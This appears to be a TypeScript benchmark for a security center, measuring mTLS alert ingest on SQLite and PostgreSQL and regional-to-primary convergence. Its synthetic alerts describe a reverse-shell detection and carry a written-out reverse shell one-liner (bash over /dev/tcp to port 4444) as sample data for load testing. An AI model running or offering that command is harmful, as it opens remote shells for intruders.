// Security center ingest (issue #8): alerts stored per second at one center, over the real API
// (HTTPS with client certificates, JSON, validation, one transaction per batch), on SQLite and on
// PostgreSQL (a throwaway cluster, when one can start here); and the time for a regional center to
// converge N alerts to its primary. Target: over 10,000 alerts/s on SQLite (the product docs
// promise 10,000+ per minute). No peer tool is named for this one.
//   BENCH_CENTER_ALERTS   alerts per engine run (default 100,000)
//   BENCH_CENTER_AGENTS   concurrent agents posting (default 4)
//   BENCH_CENTER_CONVERGE alerts a region converges to its primary (default 1,000,000, the issue's figure)
import { randomUUID } from 'node:crypto';
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { CenterHttp } from '../src/center-client/center-http.ts';
import { enroll } from '../src/center-client/enroll.ts';
import { loadIdentity, type Identity } from '../src/center-client/identity.ts';
import { initCenter } from '../src/center/center-init.ts';
import { CenterRepo } from '../src/center/center-repo.ts';
import { openCenterDb } from '../src/center/db/open-center-db.ts';
import { issueToken } from '../src/center/issue-token.ts';
import { CenterProcess, freePort, sampleAlert } from '../src/center/testing/center-harness.ts';
import { startPgCluster } from '../src/center/testing/pg-cluster.ts';
import type { AlertInput } from '../src/center/alert-input.ts';
import { fmt } from './bench-utils.ts';

const TOTAL = Number(process.env['BENCH_CENTER_ALERTS'] ?? 100_000);
const AGENTS = Number(process.env['BENCH_CENTER_AGENTS'] ?? 4);
const CONVERGE = Number(process.env['BENCH_CENTER_CONVERGE'] ?? 1_000_000);
const BATCH = 1000; // the center sink's default batch_size
const work = mkdtempSync(join(tmpdir(), 'de-bench-center-'));
const centers: CenterProcess[] = [];

function alert(seq: number): Record<string, unknown> {
  return {
    ...sampleAlert(seq, randomUUID()), rule_id: 'DE-LNX-0007', rule_name: 'Reverse shell: interactive shell on a TCP socket',
    severity: seq % 10 === 0 ? 'critical' : 'high', attack_ids: ['T1059.004', 'T1071'], tags: ['execution', 'command_and_control', 'linux'],
    host: `web-${seq % 50}.example.com`, summary: 'interactive shell with its stdio on a TCP socket', pid: 10_000 + (seq % 30_000),
    process_name: 'bash', executable_path: '/usr/bin/bash', command_line: `bash -i >& /dev/tcp/10.0.${seq % 256}.1/4444 0>&1`,
    evidence: { pid: 10_000 + (seq % 30_000), fd0: 'socket:[123456]', remote: `10.0.${seq % 256}.1:4444`, user_id: 33 },
  };
}

async function center(name: string, database?: string): Promise<{ proc: CenterProcess; dir: string }> {
  const dir = join(work, name);
  const port = await freePort();
  await initCenter({ dataDir: dir, listen: `127.0.0.1:${port}`, database });
  const proc = new CenterProcess(dir, port);
  centers.push(proc);
  await proc.start();
  return { proc, dir };
}

async function agents(dir: string, url: string, n: number, role: 'agent' | 'center' = 'agent'): Promise<Identity[]> {
  const out: Identity[] = [];
  for (let i = 0; i < n; i++) {
    const t = await issueToken(dir, role);
    out.push(await enroll({ centerUrl: url, token: t.text, dataDir: join(dir, `..`, `${role}-${Date.now()}-${i}`) }));
  }
  return out;
}

async function ingest(engine: string, database?: string): Promise<void> {
  const { proc, dir } = await center(`center-${engine}`, database);
  const ids = await agents(dir, proc.url, AGENTS);
  const perAgent = Math.floor(TOTAL / AGENTS);
  // Bodies are built before the clock starts: the figure is the center's, not the generator's.
  const bodies = ids.map((id) => {
    const list: string[] = [];
    for (let s = 1; s <= perAgent; s += BATCH) {
      list.push(JSON.stringify({ agent_id: id.id, alerts: Array.from({ length: Math.min(BATCH, perAgent - s + 1) }, (_, k) => alert(s + k)) }));
    }
    return list;
  });
  const bytes = bodies.flat().reduce((n, b) => n + b.length, 0);
  const t0 = performance.now();
  await Promise.all(ids.map(async (id, i) => {
    const http = CenterHttp.forIdentity(id, proc.url, { timeoutMs: 120_000 });
    for (const body of bodies[i]!) {
      const r = await http.send('POST', '/api/v1/alerts', JSON.parse(body));
      if (r.status !== 200) throw new Error(`HTTP ${r.status}: ${JSON.stringify(r.body)}`);
    }
    http.close();
  }));
  const s = (performance.now() - t0) / 1000;
  const n = perAgent * AGENTS;
  const admin = loadIdentity(join(dir, 'admin'));
  const check = new CenterHttp(proc.url, { ca: admin.caPem, cert: admin.certPem, key: admin.keyPem });
  const stored = (await check.json<{ alerts: unknown[] }>('GET', '/api/v1/alerts?limit=1')).alerts.length;
  check.close();
  console.log(`  ${engine.padEnd(10)} ${fmt(n / s, 0).padStart(8)} alerts/s   (${n} alerts from ${AGENTS} agents in batches of ${BATCH}, ${fmt(bytes / n, 0)} bytes each on the wire, ${fmt(s, 2)} s${stored ? '' : ', NOTHING STORED?'})`);
  await proc.stop();
}

async function converge(): Promise<void> {
  const primary = await center('primary');
  const regionDir = join(work, 'region');
  const port = await freePort();
  await initCenter({ dataDir: regionDir, listen: `127.0.0.1:${port}` });
  const token = await issueToken(primary.dir, 'center');
  await enroll({ centerUrl: primary.proc.url, token: token.text, dataDir: regionDir });
  // The region's alerts are written straight into its store (its agents' ingest is measured above).
  const db = await openCenterDb(join(regionDir, 'center.db'));
  const repo = new CenterRepo(db.db);
  const t0 = performance.now();
  for (let s = 1; s <= CONVERGE; s += 5000) {
    await repo.ingestAlerts('region', 'agent-bench', Array.from({ length: Math.min(5000, CONVERGE - s + 1) }, (_, k) => alert(s + k) as unknown as AlertInput), Date.now());
  }
  await db.close();
  const loaded = (performance.now() - t0) / 1000;
  const config = join(work, 'region.yaml');
  writeFileSync(config, `enterprise:\n  federation:\n    enable_federation: true\n    primary_endpoint: ${primary.proc.url}\n    sync_interval: 10\n`);
  const region = new CenterProcess(regionDir, port, { args: ['--config', config] });
  centers.push(region);
  const t1 = performance.now();
  await region.start(); // its first sync round starts at once
  const pdb = await openCenterDb(join(primary.dir, 'center.db'));
  const prepo = new CenterRepo(pdb.db);
  while ((await prepo.countAlerts()) < CONVERGE) await new Promise((r) => setTimeout(r, 250));
  const s = (performance.now() - t1) / 1000;
  await pdb.close();
  console.log(`  convergence: ${CONVERGE} alerts from a region to its primary in ${fmt(s, 1)} s (${fmt(CONVERGE / s, 0)} alerts/s; batches of 1000; region store loaded in ${fmt(loaded, 1)} s)`);
}

try {
  console.log('center ingest (HTTPS + mTLS + validation + one transaction per batch):');
  await ingest('sqlite');
  const pg = await startPgCluster();
  if ('url' in pg) {
    try {
      await ingest('postgresql', pg.url);
    } finally {
      await pg.stop();
    }
  } else {
    console.log(`  postgresql skipped: ${pg.skip}`);
  }
  await converge();
} finally {
  for (const c of centers) await c.stop();
  rmSync(work, { recursive: true, force: true });
}
